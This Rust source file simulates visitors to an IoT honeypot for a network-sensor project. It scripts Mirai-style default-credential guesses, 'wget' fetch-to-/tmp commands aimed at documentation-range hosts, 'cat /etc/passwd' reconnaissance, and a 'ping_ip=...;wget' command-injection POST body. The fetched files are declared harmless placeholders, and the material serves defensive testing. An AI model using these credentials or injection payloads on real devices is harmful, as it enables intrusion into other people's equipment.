//! The sample's visitors: scripted dialogues with the device honeypot, held inside this process without a socket.
//!
//! What they type and leave is made up: the files are one line of text that says so, the places are in networks kept for
//! documentation (RFC 5737). The answers are the honeypot's own, so a replay shows what a real visitor would see.

use crate::failure::Failure;
use noroshi_model::session::{Session, record_batch};
use noroshi_model::time::SECOND;
use noroshi_model::{Addr, Nanos, tables};
use noroshi_sensor::amplification::Persona;
use noroshi_sensor::iot::device::Dressed;
use noroshi_sensor::iot::dialogue::Ends;
use noroshi_sensor::iot::house::Talking;
use noroshi_sensor::iot::{Device, Limits, http, telnet};
use noroshi_simulate::Truth;
use noroshi_simulate::truth::Group;
use noroshi_store::journal::Recorder;
use sha2::{Digest, Sha256};
use std::sync::Arc;

/// Dialogues of each group on the sample day.
const PER_GROUP: usize = 8;
/// Dialogues on the sample day of visitors who leave nothing.
const OTHERS: usize = 36;
/// Seed of the devices that the visitors see.
const SEED: u64 = 1;
/// Between two lines of a script.
const LINE_NANOS: i64 = 400_000_000;

/// A made-up family: what its visitors fetch and leave.
pub struct Family {
    /// What it is called, everywhere.
    pub name: String,
    /// Where its file is said to lie.
    pub url: String,
    /// SHA-256 of the file.
    pub hash: String,
    line: String,
    ports: Vec<u16>,
}

impl Family {
    /// The families behind the groups of a world.
    pub fn of(world: &Truth) -> Vec<Family> {
        let of_group = |(at, group): (usize, &Group)| {
            let number = at + 1;
            let line = format!("This is no program. Noroshi made up this text in place of family {number}.");
            Family {
                name: format!("made-up family {number}"),
                url: format!("http://203.0.113.{}/sample-{number}.txt", 10 + number),
                hash: Sha256::digest(format!("{line}\n")).iter().map(|byte| format!("{byte:02x}")).collect(),
                line,
                ports: group.ports.clone(),
            }
        };
        world.groups.iter().enumerate().map(of_group).collect()
    }
}

/// Somebody who comes, and how.
struct Visitor {
    source: Addr,
    /// Nanoseconds before the end of the sample day.
    before: i64,
    script: Script,
}

#[derive(Clone)]
enum Script {
    /// Guesses a login, looks around, fetches, leaves its file.
    Loader { family: usize },
    /// Guesses logins.
    Guesser,
    /// Gets in and looks around.
    Curious,
    /// Asks the web server.
    Web { family: usize },
}

/// Everybody who visits the sample's honeypot.
pub struct Visitors {
    families: Vec<Family>,
    all: Vec<Visitor>,
    place: Addr,
    router: Arc<Dressed>,
    camera: Arc<Dressed>,
    sensor: &'static str,
    came: usize,
}

impl Visitors {
    /// Sources of the sample day, with the families of another world: a group brings the family of the group there that
    /// asks for the same ports.
    pub fn new(day: &Truth, other: &Truth, sensor: &'static str) -> Result<Self, Failure> {
        let families = Family::of(other);
        let device =
            |name| Ok::<_, Failure>(Device::shipped(name).map_err(Failure::failed)?.dress(&Persona::new(SEED)));
        let mut all = Vec::new();
        for (at, group) in day.groups.iter().enumerate().filter(|_| !families.is_empty()) {
            let alike = families.iter().position(|family| family.ports == group.ports);
            let family = alike.unwrap_or(at % families.len());
            for (n, source) in group.members.iter().filter(|addr| addr.is_v4()).take(PER_GROUP).enumerate() {
                let at = group.bursts.get(n % group.bursts.len().max(1)).map_or(day.start, |burst| burst.start);
                let script = if n % 4 == 3 { Script::Web { family } } else { Script::Loader { family } };
                let before = (day.end.0 - at.0) - (n as i64) * 17 * SECOND;
                all.push(Visitor { source: *source, before, script });
            }
        }
        let scanners = day.scans.iter().map(|scan| scan.source);
        let members = day.campaigns.iter().filter_map(|campaign| campaign.members.first().copied());
        let length = (day.end.0 - day.start.0).max(1);
        for (n, source) in scanners.chain(members).filter(|addr| addr.is_v4()).cycle().take(OTHERS).enumerate() {
            let before = length / (OTHERS as i64 + 1) * (n as i64 + 1) - (n as i64 % 7) * 97 * SECOND;
            all.push(Visitor { source, before, script: if n % 3 == 2 { Script::Curious } else { Script::Guesser } });
        }
        let place = day.monitored.first().map_or(Addr::v4(0xc000_020a), |prefix| Addr(prefix.first().0 + 10));
        Ok(Visitors { families, all, place, router: device("router")?, camera: device("camera")?, sensor, came: 0 })
    }

    /// The dialogues of the day that ends now.
    pub fn day(&self, now: Nanos) -> Vec<Session> {
        let one = |(at, visitor): (usize, &Visitor)| {
            self.visit(visitor, Nanos(now.0 - visitor.before.max(60 * SECOND)), format!("sample-{at}"))
        };
        self.all.iter().enumerate().map(one).collect()
    }

    /// The next visitor, who comes now.
    pub fn next(&mut self, now: Nanos) -> Option<Session> {
        // A step that shares no factor with most numbers, so that kinds of visitors take turns.
        let visitor = self.all.get(self.came * 31 % self.all.len().max(1))?;
        self.came += 1;
        Some(self.visit(visitor, now, format!("sample-{:x}", now.0)))
    }

    fn visit(&self, visitor: &Visitor, begun: Nanos, id: String) -> Session {
        let web = matches!(visitor.script, Script::Web { .. });
        let ends = Ends {
            sensor: self.sensor.to_owned(),
            src: visitor.source,
            sport: 1024 + (begun.0 as u64 / 7_919 % 60_000) as u16,
            dst: self.place,
            dport: if web { 80 } else { 23 },
            protocol: if web { "http" } else { "telnet" },
        };
        let limits = Limits::default();
        let mut talk: Box<dyn Talking> = if web {
            Box::new(http::Talk::new(self.camera.clone(), limits, &ends, id, begun))
        } else {
            Box::new(telnet::Talk::new(self.router.clone(), limits, &ends, id, begun).0)
        };
        let mut now = begun;
        for (at, said) in self.script(visitor).iter().enumerate() {
            now = Nanos(now.0 + LINE_NANOS * (1 + at as i64 * 7 % 4));
            let reply = talk.feed(said.as_bytes(), now);
            now = Nanos(now.0 + i64::from(reply.seconds) * SECOND);
            if reply.close {
                break;
            }
        }
        talk.finish(now).session
    }

    fn script(&self, visitor: &Visitor) -> Vec<String> {
        let lines = |lines: &[&str]| lines.iter().map(|line| format!("{line}\r\n")).collect::<Vec<_>>();
        let family = |at: usize| &self.families[at];
        match visitor.script {
            Script::Guesser => lines(&["admin", "7ujMko0admin", "root", "888888", "support", "support", "exit"]),
            Script::Curious => {
                lines(&["root", "1234", "ls /", "cat /proc/cpuinfo", "ps", "cat /etc/passwd", "uname -a", "exit"])
            }
            Script::Loader { family: at } => {
                let Family { url, line, .. } = family(at);
                let (fetch, leave) = (format!("cd /tmp; wget {url} -O s"), format!("echo \"{line}\" > s; cat s"));
                let begin =
                    ["root", "xmhdipc", "root", "vizxv", "enable", "shell", "/bin/busybox SAMPLE", "cat /proc/mounts"];
                [lines(&begin), lines(&[&fetch, &leave, "rm -f t; exit"])].concat()
            }
            Script::Web { family: at } => {
                let place = self.place;
                let ask =
                    |line: &str| format!("{line} HTTP/1.1\r\nHost: {place}\r\nUser-Agent: sample-visitor/1.0\r\n");
                let body = format!("ping_ip={place};wget {}", family(at).url);
                vec![
                    ask("GET /") + "\r\n",
                    // admin:admin, as RFC 7617 writes it.
                    ask("GET /index.html") + "Authorization: Basic YWRtaW46YWRtaW4=\r\n\r\n",
                    format!("{}Content-Length: {}\r\n\r\n{body}", ask("POST /diagnosis"), body.len()),
                ]
            }
        }
    }
}

/// Brings dialogues the way of everything else: through the journal into the lake.
pub async fn record(recorder: &Recorder, sessions: &[Session]) -> Result<(), Failure> {
    let table = tables::named("sessions").ok_or_else(|| Failure::failed("there is no table of dialogues"))?;
    recorder.record(table, &record_batch(sessions)).await.map_err(Failure::failed)
}

#[cfg(test)]
mod tests {
    use super::*;
    use noroshi_simulate::{Scenario, World, write_day};

    fn truth(folder: &std::path::Path, seed: u64) -> Truth {
        let world = World::new(&Scenario::load("darknet-day").unwrap(), seed, 20_000);
        write_day(&world, folder, &mut |_| {}).unwrap();
        serde_json::from_slice(&std::fs::read(folder.join("truth.json")).unwrap()).unwrap()
    }

    #[test]
    fn visitors_are_sources_of_the_day_and_leave_what_their_family_is_known_by() {
        let (one, two) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
        let (day, other) = (truth(one.path(), 1), truth(two.path(), 2));
        let mut visitors = Visitors::new(&day, &other, "sample").unwrap();
        let now = Nanos(day.end.0 + 5 * 86_400 * SECOND);
        let came = visitors.day(now);
        assert!(came.len() > OTHERS + day.groups.len(), "{}", came.len());
        let families = Family::of(&other);
        for session in &came {
            assert_eq!(session.sensor, "sample");
            assert!(session.ts < now && session.ts.0 > now.0 - 87_000 * SECOND, "{session:?}");
            assert!(!session.truncated, "{session:?}");
            let source = session.src.unwrap();
            let group = day.groups.iter().find(|group| group.members.contains(&source));
            for hash in &session.hashes {
                let family = families.iter().find(|family| family.hash == *hash).expect("a hash of a family");
                assert!(session.urls.contains(&family.url), "{:?}", session.urls);
                assert!(group.is_some(), "who leaves a file scans with others");
            }
        }
        for protocol in ["telnet", "http"] {
            assert!(came.iter().any(|one| one.protocol == protocol && !one.urls.is_empty()), "{protocol}");
        }
        assert!(came.iter().any(|one| one.hashes.is_empty() && one.logins_refused > 1));
        let ids: std::collections::BTreeSet<_> = came.iter().map(|one| &one.id).collect();
        assert_eq!(ids.len(), came.len());
        let later: Vec<_> = (0..9).filter_map(|n| visitors.next(Nanos(now.0 + n * SECOND))).collect();
        assert!(later.len() == 9 && later.iter().any(|one| !one.hashes.is_empty()));
    }
}
